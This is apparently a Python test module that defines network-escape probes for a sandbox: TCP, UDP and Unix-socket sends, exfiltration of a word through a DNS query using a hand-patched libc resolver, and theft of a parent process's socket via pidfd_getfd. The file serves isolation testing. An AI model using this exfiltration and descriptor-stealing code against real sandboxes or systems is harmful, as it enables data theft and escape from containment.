"""Attacks that talk to somebody: over the network, to services of the machine, to other kernels and their parent."""

from __future__ import annotations

from tests.isolation.attack import Attack, layers

_TCP = layers("namespaces", "landlock", "seccomp")
_UDP = layers("namespaces", "seccomp")
_SEND = """
with socket.socket(socket.{family}, socket.{kind}) as peer:
    peer.settimeout(3)
    peer.connect({address})
    peer.sendall(V["word"].encode())
    return "sent"
"""
# The C library's own resolver, pointed at the test's name server
_DNS = """
state = libc.__res_state
state.restype = ctypes.c_void_p
called(libc.__res_init())
place = state()
server = struct.pack("=H", socket.AF_INET) + struct.pack("!H", V["udp4"][1]) + socket.inet_aton(V["udp4"][0])
ctypes.memmove(place, struct.pack("=ii", 1, 1), 8)
ctypes.memmove(place + 16, struct.pack("=i", 1) + server + bytes(8), 20)
reply = ctypes.create_string_buffer(512)
libc.res_query(V["word"].encode() + b".example", 1, 1, reply, 512)
raise OSError("no name server answered")
"""


def _sends(name: str, tries: str, kind: str, address: str, stopped: frozenset[str]) -> Attack:
    family, way = kind.split()
    code = _SEND.format(family=family, kind=way, address=address)
    return Attack(name, "network", tries, code, stopped, judge="heard")


ATTACKS = (
    _sends("tcp", "connect over TCP", "AF_INET SOCK_STREAM", 'tuple(V["tcp4"])', _TCP),
    _sends("tcp6", "connect over TCP, IPv6", "AF_INET6 SOCK_STREAM", 'tuple(V["tcp6"])', _TCP),
    _sends("udp", "send over UDP", "AF_INET SOCK_DGRAM", 'tuple(V["udp4"])', _UDP),
    _sends("udp6", "send over UDP, IPv6", "AF_INET6 SOCK_DGRAM", 'tuple(V["udp6"])', _UDP),
    Attack("dns", "network", "smuggle a word out in a DNS query", _DNS, _UDP, judge="heard"),
    _sends(
        "abstract_socket",
        "connect to a service at an abstract Unix socket",
        "AF_UNIX SOCK_STREAM",
        '"\\0" + V["abstract"]',
        layers("namespaces", "landlock"),
    ),
    _sends(
        "path_socket",
        "connect to a service at a path-named Unix socket",
        "AF_UNIX SOCK_STREAM",
        'V["path"]',
        layers("namespaces"),
    ),
    Attack(
        "sibling_socket",
        "network",
        "connect to the sockets of another kernel",
        """
        with socket.socket(socket.AF_UNIX) as peer:
            peer.settimeout(3)
            peer.connect(V["sibling_socket"])
            peer.sendall(bytes([255, 0, 0, 0, 0, 0, 0, 0, 1, 127, 3]))
            return peer.recv(1) == bytes([255]) and "the other kernel answered"
        """,
        layers("namespaces", "limits"),
    ),
    Attack(
        "parent_socket",
        "network",
        "take the fork server's channel out of its hands (pidfd_getfd) and order a kernel",
        """
        failed = OSError("no channel was found")
        for pid in V["parents"]:
            try:
                pidfd = os.pidfd_open(pid)
                for fd in range(3, 20):
                    with contextlib.suppress(OSError):
                        taken = socket.socket(fileno=called(libc.syscall(438, pidfd, fd, 0)))
                        if taken.getsockopt(socket.SOL_SOCKET, socket.SO_TYPE) == socket.SOCK_SEQPACKET:
                            return f"holds the channel of {pid}"
                called(libc.syscall(438, pidfd, 0, 0))
            except OSError as error:
                failed = error
        raise failed
        """,
        _TCP,
        frozenset({"root"}),
        "it holds no capabilities, and those of its target are more",
    ),
)
